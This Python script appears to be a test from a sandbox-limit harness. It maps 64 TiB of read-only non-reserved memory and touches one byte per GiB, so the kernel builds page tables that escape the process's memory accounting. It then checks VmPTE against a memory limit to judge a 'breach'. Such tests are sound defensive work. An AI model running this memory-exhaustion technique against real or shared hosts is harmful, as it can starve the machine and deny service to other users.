"""Reads a byte here and there in an endless emptiness, which takes memory only in the kernel."""

import ctypes
import mmap

import attacker

REACH = 64 << 40
APART = 1 << 30
MAP_NORESERVE = 0x4000
MADV_NOHUGEPAGE = 15
EMPTY = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | MAP_NORESERVE
FAILED = ctypes.c_void_p(-1).value


def map_nothing(size: int) -> int | None:
    """Where so much emptiness begins: it can only be read, and so is nobody's data."""
    attacker.libc.mmap.restype = ctypes.c_void_p
    attacker.libc.mmap.argtypes = [
        ctypes.c_void_p,
        ctypes.c_size_t,
        *[ctypes.c_int] * 3,
        ctypes.c_long,
    ]
    start: int | None = attacker.libc.mmap(None, size, mmap.PROT_READ, EMPTY, -1, 0)
    if start == FAILED or start is None:
        return None
    attacker.libc.madvise(ctypes.c_void_p(start), ctypes.c_size_t(size), MADV_NOHUGEPAGE)
    return start


def page_tables() -> int:
    with open("/proc/self/status") as status:
        return next(int(line.split()[1]) << 10 for line in status if line.startswith("VmPTE"))


def attack() -> None:
    start = map_nothing(REACH)
    if start is None:
        attacker.note("not so much")
        return
    for offset in range(0, REACH, APART):
        ctypes.string_at(start + offset, 1)
        if attacker.time_left() < 0:
            break
    held = page_tables()
    attacker.judge(
        attacker.breach_lasts(lambda: held > attacker.MEMORY),
        f"{held // attacker.MIB} MiB of page tables",
    )


attacker.play(attack)
